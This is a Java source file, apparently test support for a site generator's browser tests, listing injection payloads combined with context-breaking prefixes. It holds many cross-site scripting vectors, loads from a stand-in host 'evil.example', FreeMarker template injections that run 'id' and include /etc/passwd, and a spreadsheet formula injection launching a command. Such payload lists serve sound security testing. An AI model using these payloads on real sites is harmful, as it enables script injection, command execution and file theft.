package dev.sitegen.browser;

import java.util.ArrayList;
import java.util.List;

/** Texts that run, load or lead elsewhere wherever they are taken for mark-up. {@code __x} is called by whatever runs. */
final class Payloads {

    /** The characters that end the place a text is in. */
    private static final List<String> ENDS = List.of(
            "",
            "\"",
            "'",
            "\">",
            "'>",
            "`>",
            "-->",
            "]]>",
            "</title>",
            "</script>",
            "</style>",
            "</textarea>",
            "</noscript>",
            "</a>",
            "</td></table>");

    /** The characters after it. */
    private static final List<String> ACTIONS = List.of(
            "<script>__x(1)</script>",
            "<img src=x onerror=__x(2)>",
            "<svg/onload=__x(3)>",
            " onmouseover=__x(4) autofocus onfocus=__x(4) x=",
            "<iframe srcdoc=\"<script>parent.__x(5)</script>\"></iframe>",
            "<meta http-equiv=refresh content=\"0;url=http://evil.example/6\">",
            "<base href=\"http://evil.example/7/\">",
            "<link rel=stylesheet href=http://evil.example/8.css>",
            "<img srcset=\"http://evil.example/9.png 1x\" alt=x>",
            "<video><source onerror=__x(10)></video>",
            "<details open ontoggle=__x(11)>x</details>",
            "<object data=\"data:text/html,<script>parent.__x(12)</script>\"></object>",
            "<style>@import \"http://evil.example/13.css\";*{background:url(//evil.example/13)}</style>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=__x(14)>\">",
            "<form action=javascript:__x(15)><button>x</button></form>",
            "<a href=\"javascript:__x(16)\">x</a>",
            " style=background:url(http://evil.example/17) onclick=__x(17)",
            "<svg><animate onbegin=__x(18) attributeName=x dur=1s></svg>",
            "<embed src=//evil.example/19><frameset onload=__x(19)>");

    private static final List<String> OTHERS = List.of(
            "javascript:__x(20)",
            "JaVaScRiPt:__x(21)",
            "java\tscript:__x(22)",
            "&#106;avascript:__x(23)",
            "java&Tab;script&colon;__x(24)",
            "&#x6A;&#x61;vascript:__x(25)",
            "vbscript:__x(26)",
            "data:text/html,<script>parent.__x(27)</script>",
            "data:image/svg+xml,<svg onload=__x(28) xmlns='http://www.w3.org/2000/svg'/>",
            "//evil.example/29",
            "\\\\evil.example\\30",
            "${7*7} ${page.frame.head.title} ${site}",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "<#assign x=1><#list 1..9 as i>${i}</#list>",
            "<#include \"/etc/passwd\">",
            "<@frame.around \"home\"/>",
            "[=7*7] [#assign x=1] [@x/]",
            "#{7*7} {{7*7}} <%= 7*7 %> *{7*7}",
            "&lt;script&gt;__x(31)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;__x(32)&amp;lt;/script&amp;gt;",
            "&#60;img src=x onerror=__x(33)&#62;",
            "%3Cscript%3E__x(34)%3C/script%3E",
            "\\u003cscript\\u003e__x(35)\\u003c/script\\u003e",
            "\\x3cscript\\x3e__x(36)",
            "\\\";__x(37);//",
            "\\');__x(38);//",
            "\u2028__x(39)\u2029",
            "</script ><script >__x(40)</script >",
            "<!--<script>__x(41)</script>",
            "<!--><script>__x(42)</script>",
            "<![CDATA[<script>__x(43)</script>]]>",
            "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">__x(44)</x:script>",
            "\uFF1Cscript\uFF1E__x(45)\uFF1C/script\uFF1E",
            "<<script>__x(46)//<</script>",
            "<scr<script>ipt>__x(47)</scr</script>ipt>",
            "<IMG \"\"\"><SCRIPT>__x(48)</SCRIPT>\">",
            "<img/src=`x`onerror=__x(49)>",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__x(50) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
                    + "\\x3csVg/<sVg/oNloAd=__x(50)//>\\x3e",
            "\";__x(51)//",
            "';__x(52)//",
            "`${__x(53)}`",
            "{\"@type\":\"x\"}</script><script>__x(54)</script>",
            "=cmd|' /C calc'!A0",
            "$0 $& $1 \\1 %s %n {0} {}");

    private Payloads() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(OTHERS);
        for (String action : ACTIONS) {
            ENDS.forEach(end -> all.add(end + action));
        }
        return List.copyOf(all);
    }
}
